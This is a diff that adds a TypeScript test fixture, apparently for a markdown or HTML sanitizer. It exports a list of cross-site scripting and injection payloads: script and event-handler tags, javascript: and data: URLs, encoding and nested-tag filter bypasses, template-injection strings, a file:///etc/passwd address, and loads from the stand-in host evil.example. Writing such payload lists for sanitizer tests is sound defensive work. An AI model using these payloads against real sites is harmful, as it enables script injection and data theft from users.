@@ -1,0 +1,80 @@
+/** What somebody might put into a message, a title or a data source. `hit()` would say that it ran. */
+const RUN = "hit()";
+const AWAY = "https://evil.example";
+
+const HTML = [
+  `<script>${RUN}</script>`,
+  `<script src="${AWAY}/x.js"></script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="${AWAY}/p.png">`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><image href="${AWAY}/p.svg"/></svg>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<object data="${AWAY}/o"></object>`,
+  `<embed src="${AWAY}/e">`,
+  `<link rel="stylesheet" href="${AWAY}/s.css">`,
+  `<style>@import url("${AWAY}/s.css");</style>`,
+  `<style>body{background:url(${AWAY}/b)}</style>`,
+  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
+  `<base href="${AWAY}/">`,
+  `<form action="${AWAY}"><button>ok</button></form>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<details open ontoggle="${RUN}">x</details>`,
+  `<video src="${AWAY}/v" autoplay></video>`,
+  `<audio src="${AWAY}/a" autoplay></audio>`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<body onload="${RUN}">`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<math><mtext><script>${RUN}</script></mtext></math>`,
+  `<template><img src=x onerror="${RUN}"></template>`,
+  `"><script>${RUN}</script>`,
+  `'><img src=x onerror=${RUN}>`,
+  `<!--><script>${RUN}</script>-->`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+];
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg onload=${RUN}>`,
+  `file:///etc/passwd`,
+  `blob:${AWAY}/1`,
+  `${AWAY}/p.png`,
+  `//evil.example/p.png`,
+  `https://bank.example@evil.example/`,
+  `\\\\evil.example\\share`,
+];
+const WAYS: readonly ((address: string) => string)[] = [
+  (address) => `[click](${address})`,
+  (address) => `![picture](${address})`,
+  (address) => `<${address}>`,
+  (address) => `[one][ref]\n\n[ref]: ${address} "x"`,
+  (address) => `[![both](${address})](${address})`,
+  (address) => `| a |\n|---|\n| ![t](${address}) |`,
+];
+const TRICKS = [
+  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
+  `[^1]\n\n[^1]: <img src=x onerror="${RUN}">`,
+  `<div style="position:fixed;inset:0;background:red">x</div>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `__proto__`,
+  `$\{\`${RUN}\`}`,
+  `\u202Etxet desrever`,
+  `- [ ] <img src=x onerror="${RUN}">`,
+  `https://evil.example/${"a".repeat(3000)}`,
+];
+
+export const PAYLOADS: readonly string[] = [
+  ...HTML,
+  ...ADDRESSES.flatMap((address) => WAYS.map((way) => way(address))),
+  ...HTML.map((html) => `# ${html}\n\n- ${html}\n\n> ${html}`),
+  ...TRICKS,
+];
